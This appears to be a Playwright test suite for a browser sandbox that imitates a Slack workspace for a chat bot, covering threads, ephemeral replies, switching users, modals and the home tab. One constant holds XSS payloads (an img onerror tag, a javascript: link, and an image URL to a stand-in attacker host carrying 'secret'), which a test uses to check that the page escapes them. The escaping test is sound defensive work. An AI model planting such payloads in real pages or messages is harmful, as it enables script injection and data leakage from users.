"""The page in a real browser: what a newcomer sees and does."""

from __future__ import annotations

from typing import Any

from playwright.async_api import Page, expect
from slack_bolt.app.async_app import AsyncApp
from slack_sdk.web.async_client import AsyncWebClient

from bot.sandbox.server import SandboxServer
from tests.browser import become, needs_browser

pytestmark = needs_browser
HOSTILE = "<img src=x onerror=alert(1)> [press](javascript:alert(1)) ![p](http://evil.example/p.png?secret)"


async def answers(app: AsyncApp) -> None:
    """An app that answers mentions to all, and adds something for the asker alone."""

    @app.event("app_mention")
    async def answer(event: dict[str, Any], client: AsyncWebClient) -> None:
        where = {"channel": event["channel"], "thread_ts": event["ts"]}
        block = {"type": "markdown", "text": f"**Ten** days. {HOSTILE}"}
        await client.chat_postMessage(**where, text="Ten days.", blocks=[block])
        await client.chat_postEphemeral(**where, user=event["user"], text="For you: *twelve*.")

    @app.event("message")
    async def ignore() -> None:
        pass


async def test_one_asks_in_a_channel_and_reads_the_answer_in_its_thread(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    await answers(connected)
    await page.goto(f"{sandbox.url}#priya/general")
    await page.get_by_test_id("composer-input").fill("@ostiary how long is leave?")
    await page.get_by_test_id("composer-input").press("Enter")
    await page.get_by_test_id("thread-open").click()

    thread = page.get_by_test_id("thread-messages")
    await expect(thread.get_by_text("Ten days.")).to_be_visible()
    await expect(thread.locator("strong", has_text="Ten")).to_be_visible()
    await expect(thread.get_by_test_id("ephemeral-tag")).to_have_text("Only visible to you")
    assert sandbox.visitor.visible_to("priya", "general")[0].text.startswith(f"<@{sandbox.bot_user_id}>")


async def test_what_documents_and_people_write_never_becomes_html(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    await answers(connected)
    await sandbox.visitor.change_person("marta", name="<b>Marta</b>")
    said = await sandbox.visitor.post("marta", "general", f"@ostiary {HOSTILE}")
    await page.goto(f"{sandbox.url}#priya/general/{said.ts}")

    thread = page.get_by_test_id("thread-messages")
    await expect(thread.get_by_text("Ten days.")).to_be_visible()
    await expect(thread.get_by_text("<b>Marta</b>")).to_be_visible()
    assert await page.locator("img, script:not([src])").count() == 0
    links = await page.locator("a").evaluate_all("all => all.map(a => a.protocol)")
    assert "javascript:" not in links


async def test_becoming_somebody_else_changes_everything_that_is_seen(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    await answers(connected)
    asked = await sandbox.visitor.post("marta", "general", "@ostiary how long is leave?")
    await page.goto(f"{sandbox.url}#marta/general/{asked.ts}")
    thread = page.get_by_test_id("thread-messages")
    board = page.locator('[data-testid=channel-link][data-channel="board"]')
    await expect(thread.get_by_text("For you: twelve.")).to_be_visible()
    await expect(board).to_be_visible()

    await become(page, "gus")
    await expect(thread.get_by_text("Ten days.")).to_be_visible()
    await expect(thread.get_by_text("For you")).to_have_count(0)
    await expect(board).to_have_count(0)
    await expect(page.get_by_test_id("channel-link")).to_have_count(1)


async def test_a_person_is_led_away_from_a_channel_they_cannot_see(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    await sandbox.visitor.post("marta", "board", "the acquisition")
    await page.goto(f"{sandbox.url}#marta/board")
    await expect(page.get_by_text("the acquisition")).to_be_visible()
    await become(page, "priya")
    await expect(page.get_by_test_id("channel-title")).to_have_text("general")
    await expect(page.get_by_text("the acquisition")).to_have_count(0)


async def opens_a_modal(app: AsyncApp) -> None:
    """An app that answers its command by a modal with one field."""

    @app.command("/ingest")
    async def ingest(ack: Any, body: dict[str, Any], client: AsyncWebClient) -> None:
        await ack()
        title = {"type": "plain_text", "text": "Title"}
        element = {"type": "plain_text_input", "action_id": "words"}
        block = {"type": "input", "block_id": "title", "label": title, "element": element}
        view = {"type": "modal", "callback_id": "add", "title": title, "submit": title, "blocks": [block]}
        await client.views_open(trigger_id=body["trigger_id"], view=view)


async def test_an_open_modal_is_gone_once_the_page_is_loaded_anew(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    await opens_a_modal(connected)
    await page.goto(f"{sandbox.url}#priya/general")
    for _ in range(2):
        await expect(page.get_by_test_id("channel-title")).to_have_text("general")
        await expect(page.get_by_test_id("modal")).to_be_hidden()
        await sandbox.visitor.command("priya", "general", "/ingest", "something")
        await expect(page.get_by_test_id("modal")).to_be_visible()
        await page.reload()


async def test_who_opens_the_page_without_an_address_meets_the_bot(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    await page.goto(sandbox.url)
    await expect(page.get_by_test_id("channel-title")).to_have_text("ostiary")
    await expect(page.get_by_placeholder("Message ostiary")).to_be_visible()


async def test_an_empty_direct_message_suggests_what_to_ask(
    sandbox: SandboxServer, connected: AsyncApp, client: AsyncWebClient, page: Page
) -> None:
    await answers(connected)
    direct = sandbox.visitor.where("priya", "@ostiary").channel_id
    prompts = [{"title": "Leave", "message": "How much leave?"}]
    await client.assistant_threads_setSuggestedPrompts(channel_id=direct, thread_ts="", prompts=prompts)
    await page.goto(f"{sandbox.url}#priya/@ostiary")
    await page.get_by_test_id("prompt").click()
    await expect(page.get_by_test_id("message-text")).to_have_text("How much leave?")
    await expect(page.get_by_test_id("prompt")).to_have_count(0)


async def test_the_home_tab_shows_what_the_app_publishes_when_somebody_looks(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    header = {"type": "header", "text": {"type": "plain_text", "text": "Welcome"}}

    @connected.event("app_home_opened")
    async def publish(event: dict[str, Any], client: AsyncWebClient) -> None:
        if event["tab"] == "home":
            await client.views_publish(user_id=event["user"], view={"type": "home", "blocks": [header]})

    await page.goto(f"{sandbox.url}#priya/@ostiary")
    await page.get_by_test_id("tab-home").click()
    await expect(page.get_by_test_id("home")).to_have_text("Welcome")


async def test_an_app_that_does_not_hear_of_its_home_tab_has_none(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    sandbox.subscriptions.discard("app_home_opened")
    await page.goto(f"{sandbox.url}#priya/@ostiary")
    await expect(page.get_by_test_id("composer-input")).to_be_visible()
    await expect(page.get_by_test_id("tab-home")).to_have_count(0)


async def test_a_modal_shows_what_is_wrong_and_keeps_what_was_typed(
    sandbox: SandboxServer, connected: AsyncApp, page: Page
) -> None:
    await opens_a_modal(connected)

    @connected.view("add")
    async def add(ack: Any, view: dict[str, Any]) -> None:
        words = view["state"]["values"]["title"]["words"]["value"]
        if words == "taken":
            await ack(response_action="errors", errors={"title": "That title is taken."})
        else:
            await ack()

    await page.goto(f"{sandbox.url}#priya/@ostiary")
    await page.get_by_test_id("composer-input").fill("/ingest something")
    await page.get_by_test_id("composer-input").press("Enter")
    error = page.locator('[data-testid=field-error][data-block-id="title"]')
    await page.get_by_test_id("modal-submit").click()
    await expect(error).to_have_text("Please complete this required field.")
    await page.get_by_role("textbox", name="Title").fill("taken")
    await page.get_by_test_id("modal-submit").click()
    await expect(error).to_have_text("That title is taken.")
    await expect(page.get_by_role("textbox", name="Title")).to_have_value("taken")
    await page.get_by_role("textbox", name="Title").fill("free")
    await page.get_by_test_id("modal-submit").click()
    await expect(page.get_by_test_id("modal")).to_be_hidden()


async def test_the_page_says_when_the_bot_is_not_there(
    sandbox: SandboxServer, listening: Any, page: Page
) -> None:
    await page.goto(f"{sandbox.url}#priya/general")
    light = page.get_by_test_id("connection")
    await expect(light).to_have_text("ostiary is not connected")
    async with listening():
        await expect(light).to_have_text("ostiary is connected")
    await expect(light).to_have_text("ostiary is not connected")
